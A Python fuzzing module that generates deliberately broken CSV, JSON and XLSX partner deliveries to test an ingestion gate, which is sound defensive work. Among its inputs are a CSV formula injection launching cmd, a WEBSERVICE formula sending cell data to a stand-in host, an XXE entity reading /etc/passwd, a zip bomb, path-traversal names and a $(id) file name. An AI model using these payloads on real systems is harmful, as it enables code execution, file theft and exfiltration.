"""Deliveries that went wrong: small examples of the contracts, changed in one of many ways, the same for a seed.

Belongs here: what can be wrong with bytes, tables, workbooks, JSON and names. Does not belong here: what must come of it.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl

from sources.contracts import PartnerFeed
from sources.registry import FEEDS

# Personal data that the gate knows; invented, and valid where there is something to be valid.
PERSONAL = (
    "123456782",
    "1234.56.782",
    "jan.jansen@voorbeeld.nl",
    "NL91 ABNA 0417 1643 00",
    "06-12345678",
    "J. de Vries",
)
FORMULAS = ("=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x")', "\t=1", " =1", "\uff1d1+1")
ODD = (
    "", " ", "\u00a0", "0", "-1", "1.234", "1,234", "1e9", "NaN", "inf", "999999999999999999999", "\u200b5", "\uff11\uff12", "'", '"',
    "<b>", "null", "None", "..", "\u202e12", "\U0001f600", "e\u0301", "31-02-2025", "2025-13-01", "WK099999", "BU00000000", "9999ZZ",
    "a|b", "total", "Totaal", "\\", "%s", "{0}", "x" * 400,
)  # fmt: skip
# A field that no spreadsheet could hold.
HUGE = "9" * 40_000
NAMES = (
    "x\\..\\..\\y.csv", "=cmd.csv", "+1.csv", "-rf.csv", "@x.csv", "a\nb.csv", "a\rb\t.csv", "\u202evsc.exe", "CON.csv", "x" * 240 + ".csv",
    "%2e%2e%2f.csv", "jan.jansen@voorbeeld.nl.csv", "123456782.csv", "geen ending", "a;b.csv", "'\"`$(id).csv", "\udcff\udcfe.csv",
    "\u00e9e\u0301.csv", "<script>.html", "x.csv.xlsx", "x.CSV", "~x.csv", "a b.csv ",
)  # fmt: skip
Table = list[list[str]]


@dataclass(frozen=True)
class Mutant:
    """A delivery to hand over: `rows` are those that it holds when that can be said; `kind` is what was done to it."""

    file_name: str
    body: bytes
    kind: str
    rows: int | None = None


def mutants(feed: PartnerFeed, count: int, seed: int) -> Iterator[Mutant]:
    """So many mutants of the plain example of a contract, the same each time."""
    chance = random.Random(f"{feed.id} {seed}")
    make = {"csv": _of_text, "xlsx": _of_workbook, "json": _of_json}[feed.format]
    for _ in range(count):
        # A longer one may lose a row or two and still be accepted.
        table = _rows_of(feed, 30 if chance.random() < 0.2 else 5)
        if chance.random() < 0.05:
            yield Mutant(chance.choice(NAMES), _plain(feed, table), "file_name")
        else:
            kind, body, rows = make(chance, feed, table)
            yield Mutant(feed.examples[0].file, body, kind, rows)


def _plain(feed: PartnerFeed, table: Table) -> bytes:
    if feed.format == "csv":
        return _csv(table)
    return _zipped(_parts(feed, table)) if feed.format == "xlsx" else _json(table)


@cache
def _example(feed_id: str, path: Path) -> Table:
    """The plain example of a contract as a header and rows of text."""
    if path.suffix == ".json":
        objects = json.loads(path.read_bytes())
        names = list(objects[0])
        return [names, *(["" if item[name] is None else str(item[name]) for name in names] for item in objects)]
    if path.suffix == ".xlsx":
        sheet = openpyxl.load_workbook(path).worksheets[0]
        rows = [["" if cell is None else str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]
        return [row for row in rows if any(row)]
    lines = path.read_bytes().decode("utf-8-sig").splitlines()
    delimiter = max(";,\t", key=lines[0].count)
    return [row for row in csv.reader(lines, delimiter=delimiter) if row]


def _rows_of(feed: PartnerFeed, most: int) -> Table:
    folder = FEEDS / "partners" / feed.partner / feed.id / "examples"
    return [list(row) for row in _example(feed.id, folder / feed.examples[0].file)[: most + 1]]


# -- tables -------------------------------------------------------------------------------------------------------------
# Each changes a table in its place, and says whether the number of its rows is still its length.


def _cell(chance: random.Random, table: Table, values: tuple[str, ...]) -> bool:
    row = chance.choice(table[1:] or table)
    row[chance.randrange(len(row))] = chance.choice(values)
    return any(map(str.strip, row)) and len(table) > 1


def _column_of(chance: random.Random, table: Table, values: tuple[str, ...]) -> bool:
    place = chance.randrange(len(table[0]))
    for row in table[1:]:
        row[place] = chance.choice(values)
    return False


def _header(chance: random.Random, table: Table, values: tuple[str, ...]) -> bool:
    table[0][chance.randrange(len(table[0]))] = chance.choice(values)
    return False


def _drop_column(chance: random.Random, table: Table) -> bool:
    place = chance.randrange(len(table[0]))
    for row in table:
        del row[place]
    return False


def _double_column(chance: random.Random, table: Table) -> bool:
    place = chance.randrange(len(table[0]))
    for row in table:
        row.insert(chance.choice((place, len(row))), row[place])
    return False


def _swap_columns(chance: random.Random, table: Table) -> bool:
    first, second = (chance.randrange(len(table[0])) for _ in range(2))
    for row in table if chance.random() < 0.5 else table[1:]:
        row[first], row[second] = row[second], row[first]
    return True


def _double_row(chance: random.Random, table: Table) -> bool:
    table.insert(chance.randrange(1, len(table) + 1), list(chance.choice(table[1:])))
    return True


def _drop_row(chance: random.Random, table: Table) -> bool:
    del table[chance.randrange(len(table))]
    return False


def _uneven(chance: random.Random, table: Table) -> bool:
    row = chance.choice(table)
    if chance.random() < 0.5:
        row.extend(["x"] * chance.choice((1, 2, 300)))
    else:
        del row[chance.randrange(1, len(row) + 1) :]
    return False


def _shuffle(chance: random.Random, table: Table) -> bool:
    body = table[1:]
    chance.shuffle(body)
    table[1:] = body
    return True


def _around(chance: random.Random, table: Table) -> bool:
    table.insert(0, [chance.choice((*ODD, *PERSONAL, *FORMULAS))])
    table.append([chance.choice(("Bron: register", "Totaal", f"Bron: {chance.choice(PERSONAL)}"))])
    return False


def _many_columns(chance: random.Random, table: Table) -> bool:
    for number, row in enumerate(table):
        row.extend([f"k{at}" if number == 0 else "" for at in range(chance.choice((1, 250, 1200)))])
    return False


def _same(chance: random.Random, table: Table) -> bool:
    return True


_TABLES: tuple[tuple[str, Callable[[random.Random, Table], bool]], ...] = (
    ("nothing", _same),
    ("shuffled", _shuffle),
    ("odd cell", lambda c, t: _cell(c, t, ODD)),
    ("odd cell", lambda c, t: _cell(c, t, ODD)),
    ("formula", lambda c, t: _cell(c, t, FORMULAS)),
    ("personal cell", lambda c, t: _cell(c, t, PERSONAL)),
    ("huge field", lambda c, t: _cell(c, t, (HUGE, "a" * 32_767, "\n" * 5000))),
    ("odd column", lambda c, t: _column_of(c, t, ODD)),
    ("personal column", lambda c, t: _column_of(c, t, PERSONAL)),
    ("odd header", lambda c, t: _header(c, t, (*ODD, *PERSONAL, *FORMULAS, HUGE))),
    ("column dropped", _drop_column),
    ("column doubled", _double_column),
    ("columns swapped", _swap_columns),
    ("row doubled", _double_row),
    ("row dropped", _drop_row),
    ("uneven row", _uneven),
    ("words around", _around),
    ("many columns", _many_columns),
)


def _mutated_table(chance: random.Random, table: Table) -> tuple[str, int | None]:
    kind, change = chance.choice(_TABLES)
    return kind, len(table) - 1 if change(chance, table) else None


# -- bytes --------------------------------------------------------------------------------------------------------------


def _flipped(chance: random.Random, body: bytes) -> bytes:
    changed = bytearray(body)
    for _ in range(chance.choice((1, 3, 30, 100))):
        changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def _truncated(chance: random.Random, body: bytes) -> bytes:
    return body[: chance.randrange(len(body))]


def _cut(chance: random.Random, body: bytes) -> bytes:
    start = chance.randrange(len(body))
    return body[:start] + body[start + chance.randrange(1, 60) :]


def _repeated(chance: random.Random, body: bytes) -> bytes:
    start = chance.randrange(len(body))
    return body[:start] + body[start : start + chance.randrange(1, 200)] * chance.randrange(2, 20) + body[start:]


def _noise(chance: random.Random, body: bytes) -> bytes:
    start = chance.randrange(len(body))
    return body[:start] + chance.randbytes(chance.choice((1, 10, 300))) + body[start:]


_BYTES: tuple[tuple[str, Callable[[random.Random, bytes], bytes]], ...] = (
    ("flipped", _flipped),
    ("flipped", _flipped),
    ("truncated", _truncated),
    ("cut", _cut),
    ("repeated", _repeated),
    ("noise", _noise),
    ("nothing but noise", lambda c, b: c.randbytes(c.choice((1, 2, 4, 500)))),
    ("emptied", lambda c, b: c.choice((b"", b"\n", b"\xef\xbb\xbf", b" \r\n" * 50, b"\x00" * 200))),
    ("packed", lambda c, b: gzip.compress(b, 1)),
    ("other format", lambda c, b: c.choice((b"%PDF-1.7\n", b"<html>", b"PK\x03\x04", b"\xd0\xcf\x11\xe0", b"[{}]", b"a;b\n1;2")) + b),
)  # fmt: skip


def _mutated_bytes(chance: random.Random, body: bytes) -> tuple[str, bytes]:
    kind, change = chance.choice(_BYTES)
    return kind, change(chance, body)


# -- text ---------------------------------------------------------------------------------------------------------------

_ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32", "cp1252", "cp437", "cp037", "utf-7", "shift_jis")


def _csv(table: Table, delimiter: str = ";", ending: str = "\r\n") -> bytes:
    stream = io.StringIO(newline="")
    csv.writer(stream, delimiter=delimiter, lineterminator=ending).writerows(table)
    return stream.getvalue().encode("utf-8", "surrogatepass")


def _of_text(chance: random.Random, feed: PartnerFeed, table: Table) -> tuple[str, bytes, int | None]:
    which = chance.random()
    if which < 0.35:
        kind, rows = _mutated_table(chance, table)
        return kind, _csv(table, chance.choice(";;;,\t|"), chance.choice(("\r\n", "\n"))), rows
    if which < 0.5:
        encoding = chance.choice(_ENCODINGS)
        return f"as {encoding}", _csv(table).decode().encode(encoding, "replace"), None
    if which < 0.65:
        text = _csv(table).decode()
        place = chance.randrange(len(text))
        sign = chance.choice(('"', '""', "\n", "\r", "\x00", ";", ";;;;", "\u2028", "\x1f", "\x85", "\ufeff", "'"))
        return "sign put in", (text[:place] + sign + text[place:]).encode(), None
    kind, body = _mutated_bytes(chance, _csv(table))
    return kind, body, None


# -- JSON ---------------------------------------------------------------------------------------------------------------

_VALUES = (
    "null", "true", "NaN", "-Infinity", "1e400", "-1e-400", "1" * 5000, "0.1", "1E5", "[]", "{}", '"\\ud800"', '"\\u0000"', "[" * 5000,
    '{"a":' * 3000, '"' + "x" * 40_000 + '"', '{"pc6":1,"pc6":2}', "1e99999999999999999999", '"\\u202e"',
)  # fmt: skip


def _json(table: Table) -> bytes:
    return json.dumps([dict(zip(table[0], row, strict=False)) for row in table[1:]]).encode()


def _of_json(chance: random.Random, feed: PartnerFeed, table: Table) -> tuple[str, bytes, int | None]:
    which = chance.random()
    if which < 0.45:
        kind, rows = _mutated_table(chance, table)
        return kind, _json(table), rows if len(set(table[0])) == len(table[0]) else None
    if which < 0.65:
        value = chance.choice(_VALUES)
        text = _json(table).decode()
        return (
            "odd value",
            text.replace(chance.choice([f'"{cell}"' for row in table for cell in row]), value).encode(),
            None,
        )
    if which < 0.7:
        return "not a list", chance.choice((b'{"a": 1}', b"3", b"null", b'"a"', b"[1]", b"[]", b"[[]]", b"[{}]")), None
    kind, body = _mutated_bytes(chance, _json(table))
    return kind, body, None


# -- workbooks ----------------------------------------------------------------------------------------------------------

_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_SHEET, _BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
_TYPES = (
    f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
Parts = list[tuple[str, bytes]]


def _parts(feed: PartnerFeed, table: Table) -> Parts:
    """The smallest workbook: one sheet with its texts in its cells."""
    rows = "".join(f"<row r='{at}'>{''.join(map(_cell_xml, row))}</row>" for at, row in enumerate(table, start=1))
    sheet = f'<sheet name="{feed.sheet or "Blad1"}" sheetId="1" r:id="rId1"/>'
    relation = (
        '<Relationships xmlns="{}/relationships"><Relationship Id="rId1" Type="{}/{}" Target="{}"/></Relationships>'
    )
    texts = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": relation.format(_PACKAGE, _OFFICE, "officeDocument", _BOOK),
        _BOOK: f'<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>{sheet}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relation.format(_PACKAGE, _OFFICE, "worksheet", "worksheets/sheet1.xml"),
        _SHEET: f'<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData></worksheet>',
    }
    return [(name, (_HEAD + text).encode("utf-8", "replace")) for name, text in texts.items()]


def _cell_xml(text: str) -> str:
    if text.replace(".", "", 1).isdecimal() and text.isascii():
        return f"<c><v>{text}</v></c>"
    plain = "".join(sign for sign in text if sign.isprintable())
    return f'<c t="inlineStr"><is><t>{escape(plain)}</t></is></c>'


def _zipped(parts: Parts) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as archive:
        for name, body in parts:
            archive.writestr(zipfile.ZipInfo(name), body, zipfile.ZIP_DEFLATED if len(body) > 100_000 else None)
    return stream.getvalue()


@cache
def _bomb() -> bytes:
    return b"<a>" + b" " * 30_000_000 + b"</a>"


@cache
def _long_sheet() -> bytes:
    """A sheet of many empty rows with one cell, which unpacks to much more than it is."""
    return (_HEAD + f'<worksheet xmlns="{_MAIN}"><sheetData>{"<row/>" * 300_000}</sheetData></worksheet>').encode()


_ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
_IN_SHEET = (
    ("entities", "<worksheet", _ENTITIES + "<worksheet"),
    ("far cell", "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    ("far cell", "<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'),
    ("odd place", "<c>", '<c r="AAAAAAA99999999999">'),
    ("odd place", "<c>", '<c r="">'),
    ("odd place", "<row r='1'>", "<row r='-5'>"),
    ("odd place", "<row r='1'>", "<row r='99999999999999999999'>"),
    ("shared text", "<c>", '<c t="s">'),
    ("odd type", "<c>", '<c t="d">'),
    ("odd type", "<c>", '<c t="e">'),
    ("odd type", "<c>", '<c t="b">'),
    ("odd type", "<c>", '<c t="x" s="99999">'),
    ("odd number", "<v>", "<v>1e999"),
    ("odd number", "<v>", "<v>-"),
    ("formula", "<v>", '<f>WEBSERVICE("http://x/"&amp;A1)</f><v>'),
    ("comment", "</sheetData>", f"</sheetData><!-- {PERSONAL[2]} -->"),
    ("unclosed", "</worksheet>", ""),
    ("hidden words", "</worksheet>", f"<headerFooter><oddHeader>{PERSONAL[2]}</oddHeader></headerFooter></worksheet>"),
)
_EXTRA: tuple[tuple[str, Callable[[], Parts]], ...] = (
    ("zip bomb", lambda: [("xl/bomb.xml", _bomb())]),
    ("long sheet", lambda: [("xl/worksheets/sheet2.xml", _long_sheet())]),
    ("path name", lambda: [("../../buiten.xml", b"<a/>")]),
    ("path name", lambda: [("/tmp/buiten.xml", b"<a/>")]),
    ("path name", lambda: [("..\\buiten.xml", b"<a/>")]),
    ("path name", lambda: [("C:\\buiten.xml", b"<a/>")]),
    ("doubled part", lambda: [(_SHEET.upper(), b"<a/>")]),
    ("macro", lambda: [("xl/vbaProject.bin", b"\x00")]),
    ("image", lambda: [("xl/media/image1.png", b"\x89PNG")]),
    ("author", lambda: [("docProps/core.xml", f"<c><creator>{PERSONAL[2]}</creator></c>".encode())]),
    ("no xml", lambda: [("xl/comments1.xml", b"\xff\xfe\x00")]),
    ("many parts", lambda: [(f"xl/p{at}.xml", b"<a/>") for at in range(2100)]),
)


def _of_workbook(chance: random.Random, feed: PartnerFeed, table: Table) -> tuple[str, bytes, int | None]:
    which = chance.random()
    if which < 0.35:
        kind, rows = _mutated_table(chance, table)
        return kind, _zipped(_parts(feed, table)), rows
    parts = _parts(feed, table)
    if which < 0.55:
        kind, found, put = chance.choice(_IN_SHEET)
        most = chance.choice((1, 1000))
        parts = [(n, b.replace(found.encode(), put.encode(), most) if n == _SHEET else b) for n, b in parts]
        return f"sheet: {kind}", _zipped(parts), None
    if which < 0.65:
        # Bombs are rare, for each costs as much as a hundred others.
        kind, make = chance.choice(_EXTRA if chance.random() < 0.1 else _EXTRA[2:-1])
        return f"book: {kind}", _zipped([*parts, *make()]), None
    if which < 0.75:
        at = chance.randrange(len(parts))
        name, body = parts[at]
        if chance.random() < 0.3:
            del parts[at]
            return "part left out", _zipped(parts), None
        kind, body = _mutated_bytes(chance, body)
        parts[at] = (name, body)
        return f"part {kind}", _zipped(parts), None
    kind, body = _mutated_bytes(chance, _zipped(parts))
    return f"book {kind}", body, None
